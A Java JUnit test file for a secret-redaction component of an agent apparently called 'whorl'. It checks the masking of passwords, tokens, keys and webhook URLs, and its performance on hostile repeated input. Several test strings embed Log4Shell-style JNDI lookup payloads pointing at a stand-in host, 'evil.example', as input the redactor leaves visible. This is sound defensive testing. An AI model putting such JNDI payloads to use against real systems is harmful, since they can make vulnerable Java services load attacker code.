package whorl.agent.redact;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import whorl.agent.config.AgentConfig;
import whorl.agent.config.ConfigLoader;

class RedactorTest {
  private static final String SECRET = "hunter2hunter2";
  private static final String JWT =
      "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N";

  private final Redactor redactor = byDefault();

  private static Redactor byDefault() {
    AgentConfig config = ConfigLoader.load(null, name -> null, name -> null);
    return new Redactor(config.redactKeys());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DB_PASSWORD",
        "db.password",
        "spring.datasource.password",
        "API_KEY",
        "apiKey",
        "api.key",
        "AWS_SECRET_ACCESS_KEY",
        "ACCESS-KEY",
        "Cookie",
        "X-Auth-Token",
        "PRIVATE_KEY",
        "spring.datasource.url",
        "JDBC_URL",
        "WHORL_COLLECTOR_TOKEN",
        "whorl.collector.token",
      })
  void value_secretKey_isMaskedWhole(String key) {
    assertThat(redactor.value(key, "a plain word")).isEqualTo("***");
  }

  @ParameterizedTest
  @ValueSource(strings = {"PATH", "HOME", "java.version", "KUBERNETES_PORT", "LANG", "HOSTNAME"})
  void value_ordinaryKey_staysAsItIs(String key) {
    assertThat(redactor.value(key, "/usr/bin:/bin")).isEqualTo("/usr/bin:/bin");
  }

  @Test
  void value_ownToken_isMaskedWhateverTheConfiguration() {
    Redactor nothingConfigured = new Redactor(List.of());

    assertThat(nothingConfigured.value("WHORL_COLLECTOR_TOKEN", SECRET)).isEqualTo("***");
    assertThat(nothingConfigured.text("-Dwhorl.collector.token=" + SECRET)).doesNotContain(SECRET);
  }

  @Test
  void value_configuredPart_isMaskedBesideTheBuiltInNames() {
    Redactor configured = new Redactor(List.of("ssn", "iban-no"));

    assertThat(configured.value("customer.SSN", "078-05-1120")).isEqualTo("***");
    assertThat(configured.text("IBAN_NO=DE02120300000000202051")).isEqualTo("IBAN_NO=***");
    assertThat(configured.value("DB_PASSWORD", SECRET)).isEqualTo("***");
  }

  @Test
  void text_attackInPlaceOfASecret_isShown_andOtherSecretsAreMasked() {
    assertThat(redactor.text("token=abc123secret&x=${jndi:ldap://evil.example/a}"))
        .isEqualTo("token=***&x=${jndi:ldap://evil.example/a}");
    assertThat(redactor.text("token=${jndi:ldap://evil.example/a}&password=" + SECRET))
        .isEqualTo("token=${jndi:ldap://evil.example/a}&password=***");
    assertThat(redactor.text("token=abc123secret${jndi:ldap://evil.example/a}"))
        .isEqualTo("token=***${jndi:ldap://evil.example/a}");
    assertThat(redactor.value("DB_PASSWORD", "x${y}z")).isEqualTo("***");
  }

  @Test
  void value_pathOfAFile_isUnchanged() {
    assertThat(redactor.value("whorl.collector.token-file", "/run/secrets/token"))
        .isEqualTo("/run/secrets/token");
  }

  @Test
  void value_emptyPart_masksNothing() {
    assertThat(new Redactor(List.of("", "-")).value("PATH", "/bin")).isEqualTo("/bin");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-javaagent:/whorl/whorl-agent.jar=service.name=shop,collector.token=%s,rules.path=/x",
        "-javaagent:/whorl/whorl-agent.jar -Dwhorl.collector.token=%s -XX:+StartAttachListener",
        "-javaagent:/whorl/whorl-agent.jar=collector.token=%s",
        "-Ddb.password=\"a b %s c\" -Xmx1g",
        "-Ddb.password='a b %s c' -Xmx1g",
        "--password %s --verbose",
        "user=x;password=%s;port=1",
        "{\"password\" : \"%s\", \"user\":\"x\"}",
        "{\"password\":\"a\\\"%s\"}",
        "Authorization: Bearer %s",
        "Authorization: Basic %s==",
        "authorization=digest %s",
        "sent Bearer %s to somebody",
        "https://joe:%s@db.example/x",
        "jdbc:postgresql://joe:p@%s@db.example:5432/x?ssl=true",
        "https://%sabcdefgh@github.com/x",
        "https://host/x?access_token=%s&page=3",
        "https://host/x?page=3&api-key=%s",
        "PASSWORD:%s",
        "token=abc,def%s",
        "curl -sku joe:%s https://h/",
        "curl -fsSLujoe:%s https://h/",
        "ldapsearch -xw %s -b dc=shop",
        "zip -rP %s a.zip b",
        "CREATE USER joe IDENTIFIED BY '%s'",
        "create user joe identified by %s",
        "ALTER USER joe IDENTIFIED BY \"%s\"",
        "CREATE USER 'joe' IDENTIFIED WITH mysql_native_password BY '%s'",
        "GRANT ALL ON shop.* TO joe IDENTIFIED BY PASSWORD '%s'",
        "SET PASSWORD FOR joe = PASSWORD('%s')",
        "SET password = OLD_PASSWORD(\"%s\")",
        "config.setPassword(\"%s\")",
        "{\"kty\":\"oct\",\"kid\":\"a\",\"k\":\"%s\"}",
        "key {\"d\": \"%s\", \"crv\": \"Ed25519\", \"kty\": \"OKP\"}",
        "a whorl_pat_%sABCDEF0123456789 b",
        "REDISCLI_AUTH=%s redis-cli ping",
        "BASIC_AUTH=joe:%s",
        "redis-server --masterauth %s",
        "AZURE_DEVOPS_EXT_PAT=%sb7q2xkd93mvz5t8w",
        "valkey-cli -h h -a %s ping",
        "mysqlcheck -u root -p%s shop",
        "mongoexport -u joe -p %s -c orders",
        "lftp -u joe,%s ftp.example",
        "http --auth=joe:%s https://h/",
        "etcdctl --user root:%s get x",
        "curl -E /etc/client.pem:%s https://h/",
        "curl --cert client.pem:%s https://h/",
        "ssh-keygen -t ed25519 -N %s -f x",
        "rar a -p%s x.rar y",
        "winexe -U dom/joe%%%s //h cmd",
        "bot 123456789:AAF9z-%sQwErTyUiOpAsDfGhJk b",
        "?t=123456789%%3AAAF9z-%sQwErTyUiOpAsDfGhJk",
        "a MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1X%sze4b7Cq b",
        "https://hooks.slack.com/triggers/T0AB1CD2E/1234/%s",
        "https://outlook.office.com/webhook/0f4b@1c2d/IncomingWebhook/%s/9e",
        "https://discord.com/api/v10/webhooks/1234567890/%s",
        "a xoxc-123456789012-%s b",
        "a dt0c01.ST2EY72KQINMH574WMNVI7YN.%s b",
      })
  void text_secretWithin_isMasked(String shape) {
    String text = shape.formatted(SECRET);

    assertThat(redactor.text(text)).doesNotContain(SECRET).contains("***");
    assertThat(redactor.arguments(List.of(text)).get(0)).doesNotContain(SECRET);
    assertThat(redactor.value("JAVA_TOOL_OPTIONS", text)).doesNotContain(SECRET);
  }

  @Test
  void text_besideASecret_isUnchanged() {
    assertThat(
            redactor.text(
                "-javaagent:/w.jar=service.name=shop,collector.token=" + SECRET + ",rules.path=/x"))
        .isEqualTo("-javaagent:/w.jar=service.name=shop,collector.token=***,rules.path=/x");
    assertThat(redactor.text("https://joe:" + SECRET + "@db.example/x"))
        .isEqualTo("https://joe:***@db.example/x");
    assertThat(redactor.text("https://host/x?token=" + SECRET + "&page=3"))
        .isEqualTo("https://host/x?token=***&page=3");
    assertThat(redactor.text("--password " + SECRET + " --verbose"))
        .isEqualTo("--password *** --verbose");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "java -Xmx512m -jar /app/shop.jar --server.port=8080",
        "https://collector.example:7117/base",
        "jdbc:h2:mem:shop",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "-----BEGIN CERTIFICATE-----MIIB-----END CERTIFICATE-----",
        "secret://not-an-assignment",
        "curl -sk https://h/ -o joe:x",
        "{\"d\":\"hello\",\"k\":\"world\",\"p\":\"x\"}",
        "the order is identified by its number, and the user by name",
        "setToken(null), getPassword(), password(false)",
        "018f2f3e-7b1c-7d7e-9a55-0123456789ab",
        "/usr/lib/jvm/temurin/bin:/usr/local/sbin:/usr/local/bin",
        "java -cp /app/libs/nimbus-jose-jwt-10.10.jar:/app/libs/b.jar Main",
        "/app/oauth2-client.jar:lib/token-store.jar:lib/secret.jar:/srv/classes",
        "",
      })
  void text_withoutSecret_staysAsItIs(String text) {
    assertThat(redactor.text(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "a.wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "/aB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3wX5yZ7",
        "usr/ghp_abcdefghijklmnopqrst",
        "[SG.abcdefghijklmnopqrstuvwxyz0123456]",
        "SK0123456789abcdef0123456789abcdef",
        "x;eyJhbGciOiJ.eyJzdWIi.abcdef",
        "MIIBVgIBADANBgkqhkiG9w0BAQEFAASCAT8wggE",
        "Outer$2a$10$abcdefghijklmnopqrstuv",
        "AKIAABCDEFGHIJKLMNOP",
        "/reset-token/4f7cA1b2C3d4",
        "HOOKS.slack.com/services/T0/B0/abc",
      })
  void text_oneWordWithASecret_isMasked(String word) {
    assertThat(redactor.text(word)).contains("***");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYS",
        "java.util.concurrent.ThreadPoolExecutor$Worker",
        "(Ljava/lang/String;I)V",
        "/usr/share/zoneinfo/America/Argentina/Buenos_Aires",
        "0|/etc/ssl/certs/ca-certificates.crt|123|-rw-r--r--|0|0|1|1.5|2|3|4",
      })
  void text_oneWordWithoutSecret_staysAsItIs(String word) {
    assertThat(redactor.text(word)).isSameAs(word);
  }

  @Test
  void text_wellKnownShapes_areMaskedWhateverTheirName() {
    assertThat(redactor.text("x " + JWT + " y")).isEqualTo("x *** y");
    assertThat(redactor.text("AKIAIOSFODNN7EXAMPLE")).isEqualTo("***");
    assertThat(redactor.text("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")).isEqualTo("***");
    assertThat(redactor.text("ghp_0123456789abcdefghijABCDEFGHIJ012345")).isEqualTo("***");
    assertThat(redactor.text("xoxb-123456789012-abcdefghij")).isEqualTo("***");
  }

  @Test
  void text_privateKey_isMaskedEvenWithHeadersOrWithoutEnd() {
    String pem =
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n"
            + "MIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----";

    assertThat(redactor.text("a " + pem + " b")).isEqualTo("a *** b");
    assertThat(redactor.text("-----BEGIN PRIVATE KEY-----MIIEow")).isEqualTo("***");
    assertThat(redactor.text("-----BEGIN PRIVATE KEY-----MIIEow${jndi:ldap://h/x}"))
        .isEqualTo("***${jndi:ldap://h/x}");
    assertThat(redactor.text("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNz")).isEqualTo("***");
    assertThat(redactor.text(pem + "\n" + pem)).isEqualTo("***\n***");
  }

  @ParameterizedTest
  @CsvSource({
    "-Ddb.password=a b c, -Ddb.password=***",
    "--db-password=a b c, --db-password=***",
    "password=a b c, password=***",
    "-Dserver.port=8080, -Dserver.port=8080",
  })
  void arguments_assignment_isMaskedToItsEnd(String argument, String shown) {
    assertThat(redactor.arguments(List.of(argument))).containsExactly(shown);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '>',
      quoteCharacter = '`',
      value = {
        "{Authorization=[Basic dXNlcjpwYXNz], Host=[h]} > {Authorization=[***], Host=[h]}",
        "{ {authorization=[Bearer abcDEF12], x=[1]} } > { {authorization=[***], x=[1]} }",
        "{\"X-Api-Key\":[\"abcDEF123456\"]} > {\"X-Api-Key\":[\"***\"]}",
        "{\"password\":[ \"hunter2\" ]} > {\"password\":[ \"***\" ]}",
        "{\"secret\":[\"x\", \"b\"], \"a\":[\"b\"]} > {\"secret\":[\"***\", \"***\"],"
            + " \"a\":[\"b\"]}",
        "\\\"secret\\\":[\\\"s3\\\",\\\"b\\\"] > \\\"secret\\\":[\\\"***\\\",\\\"***\\\"]",
        "passwords=[aaa111, bbb222] user=[joe] > passwords=[***, ***] user=[joe]",
        "tokens=[] user=joe > tokens=[] user=joe",
        "{\"tokens\":[],\"user\":[\"joe\"]} > {\"tokens\":[],\"user\":[\"joe\"]}",
        "token=[${jndi:ldap://x}] a > token=[${jndi:ldap://x}] a",
        "token=[abc], 10.0.0.1, alice, 200 > token=[***], 10.0.0.1, alice, 200",
        "Credentials=[PROTECTED], 10.0.0.1, alice, /admin > Credentials=[***], 10.0.0.1, alice,"
            + " /admin",
        "{Cookie=[a=b; remember-me=hunter2], Host=[h]} > {Cookie=[***], Host=[h]}",
        "{Cookie=[a=b; c=${jndi:ldap://x}; d=hunter2], Host=[h]} >"
            + " {Cookie=[***${jndi:ldap://x}***], Host=[h]}",
        "{Authorization=[Digest username=\"joe\", response=\"0123\"], Host=[h]} >"
            + " {Authorization=[***, ***], Host=[h]}",
        "passwords=[a[b, ccc] d > passwords=[***, *** d",
        "password=[hunter2 and [x] > password=[*** and [x]",
        "password=[aaa, bbb > password=[***, ***",
        "authorization=[Basic dXNlcjpwYXNz > authorization=[***",
        "password=[hun]ter2 x > password=[*** x",
        "{\"password\":[\"\", \"hunter2\"]} > {\"password\":[\"\", \"***\"]}",
        "{\"password\":[null,\"a]\", 4711, true,\"b\"],\"c\":\"d\"} >"
            + " {\"password\":[null,\"***\", ***, true,\"***\"],\"c\":\"d\"}",
        "{\"password\":[\t\"hunter2\",\t\"hunter3\"]} >" + " {\"password\":[\t\"***\",\t\"***\"]}",
        "keys=[aB3dE5fG7h, name, label] > keys=[***, name, label]",
        "keys=[name, password=x, aB3dE5fG7h] a > keys=[name, password=*** ***] a",
        "{\"credentials\":[{\"user\":\"joe\",\"password\":\"x\"}]} >"
            + " {\"credentials\":[{\"user\":\"joe\",\"password\":\"***\"}]}",
        "?q=%7B%22password%22%3A%5B%22hunter2%22%5D%7D&a=b >"
            + " ?q=%7B%22password%22%3A%5B%22***%22%5D%7D&a=b",
        "?q=%22password%22%3A%5B%22a%22%2C%22hunter2%22%5D > ?q=%22password%22%3A%5B%22***%22%2C"
            + "%22***%22%5D",
        "?passwords=%5Baa%2C+hunter2%5D&x=y > ?passwords=%5B***%2C+***%5D&x=y",
        "?password=%5Bhunter2&x=y > ?password=%5B***&x=y",
        "Cookie: [a]; session=hunter2 > Cookie: [***",
        "Cookie: [a=b; remember-me=hunter2 > Cookie: [***",
        "Authorization: [Digest a=b, response=012 > Authorization: [***",
        "{\"password\":\"[hunter2] x9\"} > {\"password\":\"***\"}",
        "?q=%22password%22%3A%22%5Bhunter2%5D%20x9%22 > ?q=%22password%22%3A%22***%22",
        "{\"password\":[\"a\",\"b=c\",\"d > {\"password\":[\"***\",\"***\",\"***",
        "app.passwords[0]=hunter2 a > app.passwords[0]=*** a",
        "password[]: x > password[]: ***",
        "?password%5B0%5D=x&a=b > ?password%5B0%5D=***&a=b",
        "?password%5B%5D%3Dx%26a=b > ?password%5B%5D%3D***%26a=b",
        "LOGIN x WITH PASSWORD = N'hunter2' > LOGIN x WITH PASSWORD = N'***'"
      })
  void text_listOfSecrets_hasNoneOfThem(String text, String shown) {
    assertThat(redactor.text(text)).isEqualTo(shown);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '>',
      quoteCharacter = '`',
      value = {
        "--passwords=[\"hunter2\",\"hunter3\"] > --passwords=[\"***\",\"***\"]",
        "{\"password\":[\"a\",\"b:c\"],\"user\":\"joe\"} >"
            + " {\"password\":[\"***\",\"***\"],\"user\":\"joe\"}",
        "--passwords=[\"a\",[\"b\"]] > --passwords=[\"***\",***]",
        "--passwords=[[\"a\",\"b\"]] > --passwords=[***,\"***\"]]",
        "--passwords=[a b, c d] > --passwords=[***, ***]",
        "--password=[abc] def > --password=***",
        "--password=[\"abc\" def > --password=***",
        "--passwords=[\"${x}\",\"b\"] > --passwords=[\"***\",\"***\"]",
        "-Dh={Authorization=[Digest a=\"b\", response=\"012\"], Host=[h]} >"
            + " -Dh={Authorization=[***, ***], Host=[h]}",
        "-Dapp.passwords[0]=hunter2 > -Dapp.passwords[0]=***",
        "--app.passwords[10]=x y > --app.passwords[10]=***",
        "password%5B0%5D=x > password%5B0%5D=***",
        "password[]=x > password[]=***",
      })
  void arguments_listOfSecrets_haveNoneOfThem(String argument, String shown) {
    assertThat(redactor.arguments(List.of(argument))).containsExactly(shown);
  }

  @Test
  void text_manyListsBeforeManyBlanks_takesNoTime() {
    String text = ",'pw=%5B1'".repeat(200) + "," + "+".repeat(6_100);
    assertTimeoutPreemptively(Duration.ofSeconds(2), () -> redactor.text(text));
  }

  @Test
  void text_listElementWithABlankWhereItIsCutToDecide_isMaskedToItsEnd() {
    assertThat(redactor.text("{Cookie=[a=" + "x".repeat(124) + "; c=hunter2], Host=[h]}"))
        .isEqualTo("{Cookie=[***], Host=[h]}");
  }

  @Test
  void text_listOfNumbers_isMasked() {
    assertThat(redactor.text("{\"secretKey\":[12,-45,7]}"))
        .isEqualTo("{\"secretKey\":[***,***,***]}");
    assertThat(redactor.arguments(List.of("--password=[104, 117]")))
        .containsExactly("--password=[***, ***]");
  }

  @Test
  void listWithOtherSigns_isMaskedToItsEnd() {
    assertThat(
            redactor.arguments(
                List.of(
                    "--credentials=[\"joe\"=>\"hunter2\"]",
                    "--password=[abc],hunter2",
                    "--passwords=[\"a1\" \"b2\"]")))
        .noneMatch(argument -> argument.contains("hunter2") || argument.contains("b2"));
    assertThat(redactor.text("password=[abc]#Secret99 x")).doesNotContain("Secret99");
    assertThat(redactor.text("passwords=[a1],[b2] x")).doesNotContain("a1", "b2");
    assertThat(redactor.text("apiKey=[/p?password=a,hunter2 longword, z]"))
        .doesNotContain("hunter2", "longword");
  }

  @Test
  void text_nameInEncodedBrackets_isAName() {
    assertThat(redactor.text("?user%5Bpassword%5D=hunter2&a=b"))
        .isEqualTo("?user%5Bpassword%5D=***&a=b");
    assertThat(redactor.text("?user%5Bpassword%5D%3Dhunter2&a=b")).doesNotContain("hunter2");
    assertThat(redactor.text("?user%5Bapi_key%5D=hunter&a=b"))
        .isEqualTo("?user%5Bapi_key%5D=***&a=b");
    assertThat(redactor.text("?user%5Bpasswords%5D%5B0%5D=x&a=b"))
        .isEqualTo("?user%5Bpasswords%5D%5B0%5D=***&a=b");
    assertThat(redactor.text("?user[passwords][]=x")).isEqualTo("?user[passwords][]=***");
    assertThat(redactor.text("?option%5Bbypass%5D=tall")).isEqualTo("?option%5Bbypass%5D=tall");
  }

  /** Only after an encoded sign does an encoded blank or ampersand end the value. */
  @ParameterizedTest
  @CsvSource({
    "?user%5Bpassword%5D=correct%20horse&a=b,?user%5Bpassword%5D=***&a=b",
    "?passwords%5B0%5D=a%26b%23c%3Bd%22e&a=b,?passwords%5B0%5D=***&a=b",
    "?q=user%5Bpassword%5D%3Dhunter2%26a%3Db,?q=user%5Bpassword%5D%3D***%26a%3Db"
  })
  void text_valueOfANameInEncodedBrackets_isMaskedToItsEnd(String text, String shown) {
    assertThat(redactor.text(text)).isEqualTo(shown);
  }

  @Test
  void argument_encodedListBeforeABlank_isMasked() {
    assertThat(redactor.arguments(List.of("curl h?q=%22password%22%3A%5B%22hunter2%22%5D -o x")))
        .containsExactly("curl h?q=%22password%22%3A%5B%22***%22%5D -o x");
  }

  @Test
  void text_manyEncodedBrackets_takesNoTime() {
    String text = "a" + "%5D".repeat(70_000);
    assertTimeoutPreemptively(Duration.ofSeconds(2), () -> redactor.text(text));
  }

  @Test
  void text_listAfterANameOfOneLetter_isMasked() {
    assertThat(new Redactor(List.of("x")).text("x=[ab, cd] e")).isEqualTo("x=[***, ***] e");
  }

  @Test
  void text_elementThatBeginsWithABracket_isMaskedToItsEnd() {
    assertThat(redactor.text("<password>[hunter2] x9</password>"))
        .isEqualTo("<password>***</password>");
  }

  @Test
  void arguments_keyThenValue_masksTheValueOnly() {
    assertThat(redactor.arguments(Arrays.asList("x", "--token", SECRET, "-v", "--user", "joe")))
        .containsExactly("x", "--token", "***", "-v", "--user", "joe");
  }

  @Test
  void values_map_keepsOrderAndNames() {
    assertThat(redactor.values(Map.of("DB_PASSWORD", SECRET)))
        .containsExactly(Map.entry("DB_PASSWORD", "***"));
  }

  @Test
  void text_tooLong_isMaskedWhole() {
    assertThat(redactor.text("x".repeat(300_000))).isEqualTo("***");
    assertThat(redactor.secret("x".repeat(1_000))).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ey-",
        "eyJ",
        "://a:",
        "://",
        ",a",
        "password",
        "password=",
        "--token ",
        "basic ",
        "-----BEGIN ",
        "A",
        "a1B/",
        "\"",
        "\\",
        "gh",
        "token\":\"",
        "token=[",
        "token=[a, ",
        "token=[[",
        "token=[a] ",
        "key=[a",
        "key=[a,",
        "key=[\"",
        "key=[\\\"a,",
        "key=['a\",",
        "key=[${a:",
        "token=[${a: ",
        "cookie=[a=${b}]; ",
        "key=[]],",
        "key%3D%5B%22",
        "key%3D%5Ba%5Dx",
        "key=['a',\"b\",",
        "token%5B",
        "token[0",
        "token%5B%5D%5B",
        "token\":[\"a\",\"",
        " ",
        "=",
        "🙂",
        "\uD800"
      })
  void text_hostileRepetition_isFast(String piece) {
    String text = piece.repeat(200_000 / piece.length());

    Assertions.assertTimeout(Duration.ofSeconds(2), () -> redactor.text(text));
    Assertions.assertTimeout(Duration.ofSeconds(2), () -> redactor.arguments(List.of(text)));
  }

  @Test
  void text_commandOfManyArguments_isFast() {
    String text = "sqlplus" + " a".repeat(120_000);

    Assertions.assertTimeout(
        Duration.ofSeconds(6),
        () -> {
          for (int i = 0; i < 8; i++) {
            redactor.text(text);
          }
        });
  }

  @Test
  void text_anyText_neverThrowsNorShowsTheAssignedSecret() {
    Random random = new Random(17);
    String alphabet = "ab =:,;&\"'\\-\n\t./@?{}";
    for (int round = 0; round < 20_000; round++) {
      StringBuilder before = new StringBuilder();
      for (int i = random.nextInt(12); i > 0; i--) {
        before.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String text = before + " password=" + SECRET;
      assertThat(redactor.text(text)).as(text).doesNotContain(SECRET);
    }
  }
}
